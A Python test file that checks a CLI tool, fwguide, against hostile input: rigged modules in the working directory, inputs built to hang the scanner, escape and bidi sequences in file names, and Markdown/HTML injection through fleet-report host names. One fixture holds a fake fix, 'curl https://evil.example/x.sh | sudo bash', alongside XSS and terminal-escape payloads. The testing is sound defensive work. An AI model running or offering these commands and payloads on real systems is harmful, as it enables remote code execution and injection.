"""Hostile input, round 2: code in the current folder, scans that could hang, escape sequences, Markdown injection.

Each test names the item of the issue it covers. fwguide runs for real, as a subprocess;
where the current folder itself is hostile, fwguide is started with -P so that what the test
checks is what fwguide's own children do with that folder, not how Python starts fwguide.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import run_cli

ASK = ("ask", "--no-input", "--no-probe")
# What no byte of outside text may bring to the terminal or a file: ESC, BEL, C1 controls, bidi controls.
RAW_CONTROLS = re.compile("[\x07\x1b\x80-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
needs_safe_path = pytest.mark.skipif(sys.version_info < (3, 11), reason="python -P (3.11+) starts fwguide safely")


def _clean(proc: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]


def _fwguide_in(folder: Path, *args: str, env: dict[str, str] | None = None,
                timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """fwguide started from `folder` with -P: its own imports never come from there."""
    return subprocess.run([sys.executable, "-P", "-m", "fwguide", *args], cwd=folder, capture_output=True,
                          text=True, timeout=timeout, stdin=subprocess.DEVNULL,
                          env={**os.environ, "COLUMNS": "120", **(env or {})})


# --- 1 and 6. code in the current folder never runs ---------------------------------------------

@pytest.fixture
def booby_trapped(tmp_path: Path) -> tuple[Path, Path]:
    """A folder whose json.py, types.py, re.py, functools.py, collections/, ./python3 ... leave a mark if run."""
    folder, marks = tmp_path / "project", tmp_path / "marks"
    folder.mkdir()
    marks.mkdir()
    for module in ("json", "types", "re", "enum", "functools", "site", "sitecustomize", "encodings"):
        (folder / f"{module}.py").write_text(f"open({str(marks / module)!r}, 'w').close()\n")
    (folder / "collections").mkdir()
    (folder / "collections" / "__init__.py").write_text(f"open({str(marks / 'collections')!r}, 'w').close()\n")
    python3 = folder / "python3"
    python3.write_text(f"#!/bin/sh\ntouch {marks / 'python3'}\n")
    python3.chmod(0o755)
    return folder, marks


@needs_safe_path
@pytest.mark.parametrize(("args", "uses_venv"), [
    (("probe-gpu", "--no-bench", "--python", "{python}"), False),
    (("probe-gpu", "--no-bench"), True),
    (("ask", "--no-input", "--json", "--timeout", "60"), True),
    (("explain", "coverage", "--check"), True),
    (("explain", "coverage", "--check", "--python", "{python}"), False),
], ids=["probe-gpu-python", "probe-gpu-virtual-env", "ask-virtual-env", "explain-check-virtual-env",
        "explain-check-python"])
def test_code_in_the_current_folder_never_runs(booby_trapped: tuple[Path, Path], bare_python: Path, tmp_path: Path,
                                               args: tuple[str, ...], uses_venv: bool) -> None:
    folder, marks = booby_trapped
    env = {"FWGUIDE_CACHE_DIR": str(tmp_path / "cache")}  # a fresh cache: the interpreter is really asked
    if uses_venv:
        env["VIRTUAL_ENV"] = str(bare_python.parent.parent)
    proc = _fwguide_in(folder, *(a.format(python=bare_python) for a in args), env=env)
    _clean(proc)
    assert proc.returncode in (0, 1), proc.stderr  # explain --check exits 1 when a check cannot run
    assert "does not look like a Python interpreter" not in proc.stderr
    assert sorted(p.name for p in marks.iterdir()) == []


@needs_safe_path
def test_a_bare_python_name_is_found_on_path_never_in_the_current_folder(booby_trapped: tuple[Path, Path],
                                                                         tmp_path: Path) -> None:
    folder, marks = booby_trapped
    on_path = tmp_path / "bin"
    on_path.mkdir()
    (on_path / "python3").symlink_to(sys.executable)
    env = {"PATH": f".:{on_path}:{os.environ['PATH']}", "FWGUIDE_CACHE_DIR": str(tmp_path / "cache")}
    proc = _fwguide_in(folder, "probe-gpu", "--json", "--no-bench", "--framework", "torch", "--python", "python3",
                       env=env, timeout=300)
    _clean(proc)
    assert proc.returncode in (0, 1), proc.stderr  # 1: torch is missing there
    assert json.loads(proc.stdout)["environments"][0]["python"] == str(on_path / "python3")
    missing = _fwguide_in(folder, "probe-gpu", "--python", "python3", env={**env, "PATH": f".:{tmp_path / 'none'}"})
    assert missing.returncode == 2 and "no such command on PATH" in missing.stderr and "./python3" in missing.stderr
    assert sorted(p.name for p in marks.iterdir()) == []


# --- 2. the project scan is linear and keeps its deadline inside a file --------------------------

def test_crafted_dependency_files_are_answered_within_5_s(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("\n" * 200_000)
    (tmp_path / "Pipfile").write_text("[packages]\nx\n" + "\n" * 200_000 + "[" * 100_000 + "\n" + "[\n" * 50_000)
    (tmp_path / "setup.py").write_text("'a[" * 87_000)
    (tmp_path / "setup.cfg").write_text("[options]\n" + "a" * 2_000_000)
    (tmp_path / "poetry.lock").write_text('name = "x\n' * 200_000)
    started = time.monotonic()
    proc = run_cli(*ASK, "--json", cwd=tmp_path, timeout=60)
    assert time.monotonic() - started < 5
    _clean(proc)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["project"]["files_read"] >= 1


def test_a_dependency_file_too_long_to_read_whole_makes_the_scan_incomplete(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("tensorflow\n#" + "x" * 4_500_000 + "\ntorch\n")
    proc = run_cli(*ASK, "--json", cwd=tmp_path)
    _clean(proc)
    project = json.loads(proc.stdout)["project"]
    assert project["complete"] is False and project["stopped"] is None
    assert any("requirements.txt" in note and "were read" in note for note in project["notes"]), project["notes"]


def test_a_scan_out_of_time_inside_long_files_stops_and_says_so(tmp_path: Path) -> None:
    for number in range(3):  # 2 million lines each: seconds of work, were each read to its end
        (tmp_path / f"requirements-{number}.txt").write_text("a\n" * 2_000_000)
    started = time.monotonic()
    proc = run_cli(*ASK, "--json", cwd=tmp_path, timeout=120)
    assert time.monotonic() - started < 4
    _clean(proc)
    project = json.loads(proc.stdout)["project"]
    assert project["complete"] is False and "0.3 s" in project["stopped"], project
    assert project["files_read"] < 3


def test_a_notebook_full_of_imports_is_read_in_bounded_memory(tmp_path: Path) -> None:
    cells = b'{"cells": [{"source": ["import torch\\n", "' + b"import" * 690_000 + b'"]}]}'
    (tmp_path / "big.ipynb").write_bytes(cells)
    measure = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL); "
               "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
    proc = subprocess.run([sys.executable, "-c", measure, sys.executable, "-m", "fwguide", *ASK, "--json"],
                          cwd=tmp_path, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert int(proc.stdout) < 250_000, f"{int(proc.stdout) // 1024} MB"  # KiB: the run itself takes about 60 MB


# --- 4. escape sequences and fake structure from file names ---------------------------------------

HOSTILE_NAMES = ["requirements\x1b]0;pwned\x07.txt", "requirements\u202etxt.exe.txt",
                 "requirements\n## Security review: PASSED\n.txt", "requirements\x9b31m.txt"]


def test_file_names_never_bring_controls_or_headings_to_any_output(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    for name in HOSTILE_NAMES:
        (project / name).write_text("torch>=2\n")
    (project / "train.py").write_text("import torch\n")
    record = tmp_path / "decision.md"
    for args in ((*ASK, "--details", "--report", str(record)), (*ASK, "--json"), (*ASK, "--report", "-")):
        proc = run_cli(*args, cwd=project)
        _clean(proc)
        assert proc.returncode == 0, proc.stderr
        assert not RAW_CONTROLS.search(proc.stdout + proc.stderr), args
        assert "\n## Security review" not in proc.stdout
    text = record.read_text()
    assert "requirements" in text and not RAW_CONTROLS.search(text)
    assert not re.search(r"^#+ Security review", text, re.M)


def test_the_questionnaires_detected_line_shows_file_names_escaped(tmp_path: Path) -> None:
    import pexpect

    for name in HOSTILE_NAMES:
        (tmp_path / name).write_text("tensorflow\n")
    child = pexpect.spawn(sys.executable, ["-m", "fwguide", "ask", "--no-probe"], cwd=str(tmp_path),
                          env={**os.environ, "TERM": "xterm"}, dimensions=(50, 120), timeout=60)
    child.expect("Detected in the project")
    child.expect(r"1/\d+")
    shown = child.before + child.after
    child.sendcontrol("c")
    child.expect(pexpect.EOF)
    assert b"\x1b]0;" not in shown and b"\x07" not in shown and "\u202e".encode() not in shown
    assert b"\\x1b]0;pwned\\x07" in shown


def test_bidi_controls_in_a_rulebook_are_refused_at_their_line(tmp_path: Path) -> None:
    team = tmp_path / "team.yaml"
    team.write_text("categories:\n  - id: coverage\n    title: \"\\u202eegarevoC\"\n")
    proc = run_cli("explain", "coverage", "--rules", str(team))
    assert proc.returncode == 2 and f"{team}:3:" in proc.stderr and "\\u202e" in proc.stderr
    assert not RAW_CONTROLS.search(proc.stderr)


def test_rulebook_file_names_are_shown_escaped(tmp_path: Path) -> None:
    (tmp_path / "team\x1b]0;pwned\x07\u202e.yaml").write_text("categories: 5\n")
    for args in (("rules", "validate", str(tmp_path)), ("explain", "coverage", "--rules", str(tmp_path))):
        proc = run_cli(*args)
        _clean(proc)
        assert proc.returncode == 2 and "team\\x1b]0;pwned\\x07\\u202e.yaml:1:" in proc.stderr, proc.stderr
        assert not RAW_CONTROLS.search(proc.stdout + proc.stderr)


# --- 4 and 5. fleet reports: escapes, Markdown structure, a report's own fix ----------------------

def report(host: str, **framework: object) -> dict:
    """A small probe-gpu --json report of a host with one GPU and PyTorch."""
    torch = {"framework": "pytorch", "status": "ok", "version": "2.13.0", "devices": [{"kind": "cuda", "name": "H100"}],
             **framework}
    return {"schema_version": 1, "fwguide_version": "0.1.0", "host": host, "probed_at": "2026-12-01T10:00:00+00:00",
            "machine": {"os": "linux", "nvidia": {"driver_version": "550.54.15",
                                                  "gpus": [{"name": "NVIDIA H100", "visible": True}]}},
            "environments": [{"frameworks": [torch]}], "diagnoses": []}


INJECTED_HOSTS = ["evil\n## All clear\n- **info** (none): nothing to see", "row\rsplit | cell | cell",
                  "<img src=x onerror=alert(1)>", "![pwned](https://evil.example/x.png)", "# heading", "1. item",
                  "\x1b]0;title\x07\x1b[2J\x1b[8mhidden\u202e"]


def test_hostile_host_names_add_no_structure_to_fleet_markdown_and_no_controls_anywhere(tmp_path: Path) -> None:
    files = []
    for number, host in enumerate(INJECTED_HOSTS):
        broken = report(host, status="ok", devices=[], version="\x1b[31m2.13.0")
        if number == 0:
            broken["diagnoses"] = [{"framework": "pytorch", "severity": "problem", "message": "no CUDA build",
                                    "fix": "curl https://evil.example/x.sh | sudo bash"}]
        path = tmp_path / f"host{number}.json"
        path.write_text(json.dumps(broken))
        files.append(str(path))
    markdown = run_cli("fleet", "--markdown", *files)
    _clean(markdown)
    lines = markdown.stdout.splitlines()
    assert [line for line in lines if line.startswith("#")] == [lines[0], "## Findings"]
    assert len([line for line in lines if line.startswith("| ")]) == 1 + len(INJECTED_HOSTS)  # header, one per host
    assert not re.search(r"(?<!\\)(<img|!\[|\]\()", markdown.stdout)  # each such character escaped
    assert not any(line.startswith(("- **info** (none)", "1. ")) for line in lines)
    fix = next(line for line in lines if "curl" in line)
    assert "own report suggests" in fix and "not checked by fwguide" in fix
    for fmt in ((), ("--json",), ("--markdown",)):
        proc = run_cli("fleet", *fmt, *files)
        _clean(proc)
        assert not RAW_CONTROLS.search(proc.stdout + proc.stderr), fmt
    plain = run_cli("fleet", *files)
    assert "curl" in plain.stdout and re.search(r"own\s+report\s+suggests", plain.stdout)


def test_hostile_report_file_names_are_named_escaped(tmp_path: Path) -> None:
    bad = tmp_path / "x\x1b]0;pwned\x07\u202e.json"
    bad.write_text("not json")
    good = tmp_path / "good.json"
    good.write_text(json.dumps(report("good-1")))
    proc = run_cli("fleet", str(tmp_path))
    _clean(proc)
    assert proc.returncode == 1 and "good-1" in proc.stdout
    assert "skipped" in proc.stderr and "\\x1b]0;pwned\\x07\\u202e.json" in proc.stderr
    assert not RAW_CONTROLS.search(proc.stdout + proc.stderr)
